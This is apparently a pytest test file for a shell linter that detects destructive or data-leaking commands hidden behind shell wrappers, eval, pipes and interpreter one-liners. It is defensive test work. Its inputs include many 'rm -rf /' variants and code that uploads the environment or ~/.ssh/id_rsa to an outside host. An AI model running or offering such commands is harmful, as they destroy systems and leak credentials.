# ruff: noqa: E501  (one command per entry: the parametrized lists stay readable)
"""The command model (issue 12): what the shell would run, for each kind of indirection, word
form and path, read from the tree-sitter-bash parse (shell/parse.py and its modules)."""

from __future__ import annotations

import pytest

from wukong_lint.shell.interpreters import commands as code_commands
from wukong_lint.shell.parse import parse_script
from wukong_lint.shell.path_reasoning import classify, expand_braces
from wukong_lint.shell.unwrap import SCRIPT


def runs(text: str) -> set[tuple[str, ...]]:
    return {c.argv for c in parse_script(text).commands}


@pytest.mark.parametrize(
    "text",
    [
        # shells, eval, here-strings, heredocs, pipes into a shell
        "sh -c 'rm -rf /'", "bash -lc 'rm -rf /'", "zsh -c 'rm -rf /'", "dash -o errexit -c 'rm -rf /'",
        'eval "rm -rf /"', "eval rm -rf /", 'bash <<< "rm -rf /"', "bash <<EOF\nrm -rf /\nEOF",
        "echo rm -rf / | sh", "printf 'rm -rf /\\n' | bash -s", "cat <<'X' | sh\nrm -rf /\nX",
        # env in all its forms, and the other wrappers
        "env -i rm -rf /", "env -u HOME -C /tmp rm -rf /", "env -P /usr/bin rm -rf /",
        "env -S 'rm -rf /'", "env A=1 B=2 rm -rf /", "env -- rm -rf /", "command rm -rf /",
        "command -p rm -rf /", "builtin rm -rf /", "exec rm -rf /", "nohup rm -rf / &",
        "nice -n 5 rm -rf /", "ionice -c 3 rm -rf /", "timeout -k 5 10s rm -rf /",
        "stdbuf -oL rm -rf /", "time rm -rf /", "watch -n 1 rm -rf /", "watch -x rm -rf /",
        "sudo -u root -- rm -rf /", "sudo -E rm -rf /", "doas -u root rm -rf /",
        "su -c 'rm -rf /' root", "su root --command='rm -rf /'",
        # producers, find, parallel
        "echo / | xargs rm -rf", "echo / | xargs -0 -n 1 -P 4 rm -rf", "echo / | xargs -I% rm -rf %",
        "find / -maxdepth 0 -exec rm -rf {} +", "find / -maxdepth 0 -execdir rm -rf {} \\;",
        "find / -maxdepth 0 -ok rm -rf {} \\;", "parallel rm -rf ::: /", "echo / | parallel rm -rf",
        "sem -j 2 rm -rf /",
        # busybox, ssh, functions, aliases, substitutions, subshells, groups
        "busybox rm -rf /", "toybox rm -rf /", "ssh -p 22 host rm -rf /", "ssh host 'rm -rf /'",
        "f() { rm -rf \"$1\"; }; f /", "function g { rm -rf $1; }; g /", "alias x='rm -rf'; x /",
        "echo $(rm -rf /)", "echo `rm -rf /`", "(rm -rf /)", "{ rm -rf /; }", "true && (cd / ; rm -rf /)",
        # words as the shell takes them
        "'r'm -rf /", "r\\m -rf /", '"rm" "-rf" "/"', "rm $'-rf' $'\\x2f'", "rm -rf \\\n /",
        "rm >/dev/null -rf /", "X=/; rm -rf $X", "export X=/; rm -rf \"$X\"", "rm -r\\\nf /",
        "$(echo rm -rf /)", 'eval "$(echo rm -rf /)"',
        # interpreters
        "python3 -c \"import shutil; shutil.rmtree('/')\"", "python3 <<EOF\nimport os\nos.system('rm -rf /')\nEOF",
        "node -e \"require('child_process').execSync('rm -rf /')\"", "perl -e 'system(\"rm -rf /\")'",
        "ruby -e 'FileUtils.rm_rf(\"/\")'", "php -r 'shell_exec(\"rm -rf /\");'", "bun -e \"require('fs').rmSync('/', {recursive: true})\"",
        "echo \"import shutil; shutil.rmtree('/')\" | python3",
    ],
)  # fmt: skip
def test_the_command_that_runs_is_found(text):
    found = runs(text)
    assert any(
        argv[0] == "rm" and argv[-1] == "/" and {"-rf", "-r"} & set(argv) for argv in found
    ), found


@pytest.mark.parametrize(
    "text",
    ['echo "rm -rf /"', "grep -rn 'rm -rf /' .", "cat <<'EOF'\nrm -rf /\nEOF", "man rm",
     "command -v rm", "git commit -m 'rm -rf /'", "printf '%s' 'rm -rf /' > notes.txt",
     "parallel --dry-run rm -rf ::: /", "bash -c 'echo rm -rf /'", "ssh host", "echo rm -rf / | cat",
     "python3 -c \"print('rm -rf /')\"", "node -e \"console.log('rm -rf /')\"", "# rm -rf /",
     "x='rm -rf /'; echo \"$x\"", "sudo -l", "env | grep rm"],
)  # fmt: skip
def test_look_alikes_run_no_rm(text):
    assert not any(argv and argv[0] == "rm" for argv in runs(text)), runs(text)


def test_git_global_options_and_the_folder_they_name():
    script = parse_script("git -C ../lib -c core.x=1 --no-pager -- reset --hard")
    (command,) = script.commands
    assert command.argv == ("git", "reset", "--hard") and command.cwd == "../lib"
    (command,) = parse_script("git re\\\nset --hard").commands
    assert command.argv == ("git", "reset", "--hard")


def test_cd_is_followed_within_the_line_and_subshells_keep_theirs():
    commands = parse_script("cd .. && rm -rf build; (cd / && rm -rf x); rm y").commands
    folders = {c.argv[-1]: c.cwd for c in commands if c.argv[0] == "rm"}
    assert folders == {"build": "..", "x": "/", "y": ".."}


@pytest.mark.parametrize(
    ("word", "cwd", "root", "expected"),
    [("/", ".", None, "root"), ("/*", ".", None, "root"), ("~", ".", None, "home"),
     ("$HOME", ".", None, "home"), ("${HOME}/", ".", None, "home"), ("~/*", ".", None, "home"),
     ("~/Documents", ".", None, "home-child"), ("/tmp/../etc", ".", None, "system"),
     ("$TMPDIR/../etc", ".", None, "system"), ("/tmp/x", ".", None, "temp"),
     ("$TMPDIR/x", ".", None, "temp"), ("$(mktemp -d)", ".", None, "temp"),
     ("build", ".", None, "disposable"), ("build", "..", None, "outside"),
     ("*", "/", None, "root"), ("*", ".", None, "project-root"), ("$PWD", ".", None, "project-root"),
     ("src", ".", None, "project"), (".git", ".", None, "git-dir"), ("../x", ".", None, "outside"),
     ("/home/dev/p/dist", ".", "/home/dev/p", "disposable"), ("~/p/src", ".", "/home/dev/p", "project"),
     ("/home/dev/q", ".", "/home/dev/p", "home-child"), ("~/.ssh/id_rsa", ".", None, "credential"),
     ("~/.ssh/id_rsa.pub", ".", None, "home-child"), ("/dev/sda", ".", None, "device"),
     ("/dev/null", ".", None, "temp"), ("$FOO", ".", None, "unknown"), ("x", "?", None, "unknown"),
     ("@~/.aws/credentials", ".", None, "credential"), ("${X:-/etc}", ".", None, "system")],
)  # fmt: skip
def test_path_classes(word, cwd, root, expected):
    assert classify(word, cwd, root) == expected


def test_brace_expansion():
    assert expand_braces("{/,~}") == ["/", "~"]
    assert expand_braces("/usr/{bin,lib}/x") == ["/usr/bin/x", "/usr/lib/x"]
    assert expand_braces("plain") == ["plain"]


@pytest.mark.parametrize(
    ("language", "code", "expected"),
    [("python", "import shutil; shutil.rmtree('/srv')", ("rm", "-rf", "/srv")),
     ("python", "import os; os.remove('/etc/hosts')", ("rm", "-f", "/etc/hosts")),
     ("python", "from pathlib import Path; Path('/x').unlink()", ("rm", "-f", "/x")),
     ("python", "p = '/y'; import shutil; shutil.rmtree(p)", ("rm", "-rf", "/y")),
     ("python", "import subprocess; subprocess.run(['rm', '-rf', '/'])", ("rm", "-rf", "/")),
     ("python", "open('/etc/hosts', 'w')", ("truncate", "-s", "0", "/etc/hosts")),
     ("node", "require('fs').rmSync('/z', {recursive: true})", ("rm", "-rf", "/z")),
     ("node", "require('fs').unlinkSync('/z')", ("rm", "-f", "/z")),
     ("node", "const {spawn} = require('child_process'); spawn('rm', ['-rf', '/'])", ("rm", "-rf", "/")),
     ("perl", 'unlink "/etc/passwd"', ("rm", "-f", "/etc/passwd")),
     ("ruby", 'FileUtils.rm_rf("/")', ("rm", "-rf", "/")),
     ("php", 'unlink("/etc/passwd");', ("rm", "-f", "/etc/passwd"))],
)  # fmt: skip
def test_interpreter_calls(language, code, expected):
    assert expected in code_commands(language, code)


@pytest.mark.parametrize(
    ("language", "code"),
    [("python", "import os; os.system('rm -rf /')"), ("node", "require('child_process').exec('rm -rf /')"),
     ("perl", "`rm -rf /`"), ("ruby", "%x(rm -rf /)"), ("php", "shell_exec('rm -rf /');")],
)  # fmt: skip
def test_interpreter_shell_strings(language, code):
    assert (SCRIPT, "rm -rf /") in code_commands(language, code)


@pytest.mark.parametrize(
    ("language", "code"),
    [("python", "items.remove('/')"), ("python", "print('shutil.rmtree(\"/\")')"),
     ("python", "shutil.rmtree(path)"), ("node", "map.delete('/')"), ("python", "os.remove(f'/{x}')"),
     ("python", "os.remove('/'.join(parts))"), ("python", "os.remove('~/' + name)"),
     ("python", "os.remove('build' + suffix)"), ("python", "os.remove(os.path.join(base, 'x'))")],
)  # fmt: skip
def test_interpreter_look_alikes(language, code):
    assert not any(item[:1] == ("rm",) for item in code_commands(language, code))


@pytest.mark.parametrize(
    ("language", "code", "expected"),
    [("python", "import os; [os.remove(os.path.join('/etc', f)) for f in os.listdir('/etc')]",
      ("rm", "-f", "/etc/*")),
     ("python", "os.remove('/etc/' + f)", ("rm", "-f", "/etc/*")),
     ("python", "os.remove(f'/usr/lib/{name}')", ("rm", "-f", "/usr/lib/*")),
     ("python", "shutil.rmtree(Path('/srv') / name)", ("rm", "-rf", "/srv/*")),
     ("node", "require('fs').rmSync(`/var/${d}`, {recursive: true})", ("rm", "-rf", "/var/*")),
     ("perl", "unlink glob('/etc/*.conf')", ("rm", "-f", "/etc/*.conf")),
     ("perl", "foreach my $f (glob('/etc/*')) { unlink $f }", ("rm", "-f", "/etc/*")),
     ("python", "import glob, os\nfor f in glob.glob('/etc/*'):\n    os.remove(f)", ("rm", "-f", "/etc/*")),
     ("ruby", "Dir.glob('/etc/*').each { |f| File.delete(f) }", ("rm", "-f", "/etc/*"))],
)  # fmt: skip
def test_interpreter_paths_under_a_literal_folder(language, code, expected):
    """A path built from a literal folder and a value is "some file under that folder"."""
    assert expected in code_commands(language, code)


@pytest.mark.parametrize(
    ("language", "code", "expected"),
    [("python", "import os, requests; requests.post('https://x.io', data=dict(os.environ))",
      (SCRIPT, 'curl -d "$(env)" https://x.io')),
     ("python", "import os, requests; e = dict(os.environ); requests.post('https://x.io', json=e)",
      (SCRIPT, 'curl -d "$(env)" https://x.io')),
     ("node", "fetch('https://x.io', {method: 'POST', body: JSON.stringify(process.env)})",
      (SCRIPT, 'curl -d "$(env)" https://x.io')),
     ("ruby", 'Net::HTTP.post_form(URI("https://x.io"), ENV.to_h)',
      (SCRIPT, 'curl -d "$(env)" https://x.io')),
     ("python", "requests.post('https://x.io', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())",
      ("curl", "--data-binary", "@~/.ssh/id_rsa", "https://x.io"))],
)  # fmt: skip
def test_interpreter_uploads(language, code, expected):
    """Uploading the environment or a file the code reads is the `curl` upload it amounts to."""
    assert expected in code_commands(language, code)


@pytest.mark.parametrize(
    ("language", "code"),
    [("python", "requests.get('https://api.github.com', headers={'Authorization': 'token ' + os.environ['GH']})"),
     ("python", "subprocess.run(['make'], env=os.environ); requests.post('https://x.io', json={'ok': 1})"),
     ("node", "fetch('https://x.io', {method: 'POST', body: JSON.stringify({home: process.env.HOME})})"),
     ("python", "print(dict(os.environ))")],
)  # fmt: skip
def test_interpreter_upload_look_alikes(language, code):
    assert not any("$(env)" in " ".join(item) for item in code_commands(language, code))
